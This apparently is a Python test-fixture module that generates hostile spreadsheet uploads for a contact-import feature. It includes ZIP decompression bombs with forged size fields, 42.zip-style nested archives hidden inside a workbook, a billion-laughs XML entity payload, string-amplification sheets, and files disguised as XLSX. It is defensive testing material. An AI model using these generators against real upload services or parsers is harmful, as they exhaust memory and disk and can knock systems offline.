"""Files that no list of contacts is, or that are made to harm whoever reads them. All made here; none is large to send."""

import io
import zipfile
import zlib

SHEET = "xl/worksheets/sheet1.xml"
TEXTS = "xl/sharedStrings.xml"
HEAD = '<?xml version="1.0"?>'
BEGIN = HEAD + "<worksheet><sheetData>"
END = "</sheetData></worksheet>"
MEGABYTE = 1 << 20


def csv(*lines, encoding="utf-8"):
    """Rows below headings that are recognised."""
    return "".join(f"{line}\r\n" for line in ("Nombre;Teléfono;Notas", *lines)).encode(encoding)


def row(number, *cells):
    inside = "".join(f'<c t="inlineStr"><is><t xml:space="preserve">{cell}</t></is></c>' for cell in cells)
    return f'<row r="{number}">{inside}</row>'


def rows(*people):
    """As `csv`, for a sheet."""
    lines = [("Nombre", "Teléfono", "Notas"), *people]
    return "".join(row(number, *cells) for number, cells in enumerate(lines, 1))


def workbook(sheet="", parts=None, **packing):
    """An XLSX file of one sheet, of which `parts` replaces files inside."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    files = {
        "[Content_Types].xml": HEAD + "<Types/>",
        "_rels/.rels": HEAD
        + f'<Relationships><Relationship Id="r1" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": HEAD
        + f'<workbook xmlns:r="{office}"><sheets><sheet name="Hoja1" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": HEAD
        + f'<Relationships><Relationship Id="r1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>'
        + f'<Relationship Id="r2" Type="{office}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        SHEET: BEGIN + sheet + END,
        **(parts or {}),
    }
    return archive(files)


def archive(files):
    """A ZIP file. A `Repeated` is packed without ever being there as a whole."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files.items():
            if not isinstance(content, Repeated):
                made.writestr(name, content)
    bombs = {name: content for name, content in files.items() if isinstance(content, Repeated)}
    return _with_bombs(out.getvalue(), bombs) if bombs else out.getvalue()


class Repeated:
    """`piece`, packed once and repeated so often: a packed piece that ends on a byte and looks at nothing before it may
    stand anywhere, so that gigabytes are made in milliseconds. `claims` is the size that the archive states, if it lies."""

    def __init__(self, piece, times, head=b"", claims=None):
        self.size = claims or len(head) + len(piece) * times
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
        packed = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
        self.packed = first + packed * times + packer.flush(zlib.Z_FINISH)


def _with_bombs(plain, bombs):
    """The archive with further files, which `zipfile` would have to unpack first."""
    with zipfile.ZipFile(io.BytesIO(plain)) as made:
        directory, count = made.start_dir, len(made.infolist())
    end = plain.rindex(b"PK\x05\x06")
    body, entries = plain[:directory], plain[directory:end]
    for name, bomb in bombs.items():
        title = name.encode()
        # Sizes beyond 32 bits stand in a further field; whoever believes the small ones has to count.
        size = min(bomb.size, 0xFFFF_FFFE)
        sizes = (0).to_bytes(4, "little") + len(bomb.packed).to_bytes(4, "little") + size.to_bytes(4, "little")
        about = bytes.fromhex("14000000080000002100") + sizes + len(title).to_bytes(2, "little") + bytes(2)
        entries += (
            b"PK\x01\x02\x14\x00" + about + bytes(10) + len(body).to_bytes(4, "little") + title
        )
        body += b"PK\x03\x04" + about + title + bomb.packed
    total = (count + len(bombs)).to_bytes(2, "little")
    tail = b"PK\x05\x06" + bytes(4) + total * 2
    tail += len(entries).to_bytes(4, "little") + len(body).to_bytes(4, "little") + bytes(2)
    return body + entries + tail


def sheet_bomb(gigabytes, claims=None):
    """Blanks where rows are expected, after a row that is one."""
    head = (BEGIN + rows(("Ana", "+34600111333", ""))).encode()
    return workbook(parts={SHEET: Repeated(b" " * MEGABYTE, gigabytes << 10, head, claims)})


def row_bomb(gigabytes, claims=None):
    """The same with empty rows, each of which is looked at."""
    empty = b"<row spans='1:3'/>" * (MEGABYTE // 18)
    return workbook(parts={SHEET: Repeated(empty, gigabytes << 10, BEGIN.encode(), claims)})


def text_bomb(gigabytes, claims=None):
    """Texts that cells may name, more than fit anywhere; a cell names one of the last."""
    texts = b"<si><t>x</t></si>" * (MEGABYTE // 17)
    named = '<row><c t="s"><v>99999999</v></c></row>'
    return workbook(rows(("Ana", "+34600111333", "")) + named, {TEXTS: Repeated(texts, gigabytes << 10, b"<sst>", claims)})


def echo_bomb():
    """One long text that every cell names: little to unpack, much to give out."""
    named = '<row><c t="s"><v>0</v></c></row>' * 40_000
    return workbook(named, {TEXTS: f"<sst><si><t>{'x' * 90_000}</t></si></sst>"})


def nested_bomb(depth=5, width=10):
    """Archives in archives, as 42.zip; called a workbook."""
    inner = archive({"0.xml": Repeated(b"\0" * MEGABYTE, 1024)})
    for _ in range(depth):
        inner = archive({f"{number}.zip": inner for number in range(width)})
    return inner


def hidden_bomb():
    """The archives inside a workbook whose own sheet is as it should be."""
    return workbook(rows(("Ana", "+34600111444", "")), {"xl/media/inner.zip": nested_bomb(depth=2)})


def entities(definition, use):
    """A sheet with a document type of its own."""
    return workbook(parts={SHEET: f"{HEAD}<!DOCTYPE w [{definition}]><worksheet><sheetData>{row(1, use)}{END[12:]}"})


def laughs():
    """A billion of them: each entity names the one before ten times."""
    inner = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return entities(f'<!ENTITY l0 "ja">{inner}', "&l9;")


OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + bytes.fromhex("3e000300feff0900") + bytes(4064)
PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489") + bytes(600)
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"


def encrypted():
    """A workbook each of whose files says that it is encrypted."""
    whole = bytearray(workbook(rows(("Ana", "+34600111555", ""))))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.find(mark)
        while at >= 0:
            whole[at + offset] |= 1
            at = whole.find(mark, at + 4)
    return bytes(whole)
